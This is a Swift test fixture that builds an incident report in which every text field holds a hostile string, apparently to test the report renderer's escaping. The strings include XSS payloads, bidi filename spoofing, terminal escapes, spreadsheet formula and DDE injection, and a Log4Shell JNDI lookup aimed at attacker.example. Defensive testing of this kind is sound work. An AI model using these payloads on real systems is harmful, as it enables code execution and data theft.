import Diagnosis
import EventCorrelation
import EventSignals
import IncidentReport
import WindowsEventLog

/// A report in which every text a stranger can write is an attack.
enum SampleHostile {
  static let names = [
    "<script>window.pwned=1</script>",
    #""><img src=x onerror=window.pwned=1>"#,
    "' onmouseover='window.pwned=1",
    "\u{202E}gnp.exe\u{2066}",
    "\u{1B}[31m\u{1B}]0;owned\u{7}\u{9B}2J",
    "=HYPERLINK(\"http://attacker.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)", "-2+3", "\u{FF1D}1+1", "\t=1+1",
    "{{{script}}}{{#incidents}}", "](javascript:alert(1)) [x]: http://attacker.example",
    "\u{0600}<script>window.pwned=1</script>",
    "<\u{0301}img src=x onerror=window.pwned=1>", "\"\u{0301} onfocus=window.pwned=1 autofocus=\"\u{0301}",
    "a\u{0}b\u{85}c\u{2028}d", "```\n# heading\n| a | b |", String(repeating: "W", count: 10_000),
    "</noscript><script>window.pwned=1</script>", "--><!--", "]]>", "&lt;script&gt;", "\\u003cscript\\u003e",
    "${jndi:ldap://attacker.example}",
  ]

  static func report() throws -> Report {
    var incidents: [Incident] = []
    for (index, name) in names.enumerated() {
      var first = SampleSite.setOut(Double(index) * 10_000, record: UInt64(index * 10 + 1))
      first.signal.summary = name
      first.signal.event.channel = name
      first.signal.event.provider = name
      first.signal.event.source = name
      first.signal.rule = name
      let second = SampleSite.keyUnreadable(Double(index) * 10_000 + 1, record: UInt64(index * 10 + 2))
      var episode = SampleSite.episode([first, second])
      episode.client = name
      episode.server = name
      episode.user = name
      var incident = Incident(
        verdict: index % 2 == 0 ? .diagnosed : .undetermined, episodes: [episode],
        hypotheses: [
          Hypothesis(
            cause: "cert-private-key-acl", title: name, outcome: .matched, confidence: 0.9,
            evidence: [.init(signal: name, supports: true, note: name, member: first)], missing: [name])
        ], unexplained: 0.1)
      incident.client = name
      incident.clients = [name, name]
      incident.server = name
      incident.gateway = name
      incident.user = name
      incident.collectNext = [CollectNext(host: name, channel: name, reason: name, command: name)]
      incidents.append(incident)
    }
    var input = try SampleReports.input(incidents)
    input.site.hosts[0].name = names[0]
    input.site.hosts[0].aliases = names
    input.sources += names.map {
      ReportInput.SourceFacts(path: $0, summary: SourceSummary(description: .init(dialect: $0, encoding: $0)))
    }
    input.warnings = names.map { Report.Warning(path: $0, message: $0) }
    input.generatorVersion = names[0]
    return Report(input: input)
  }
}
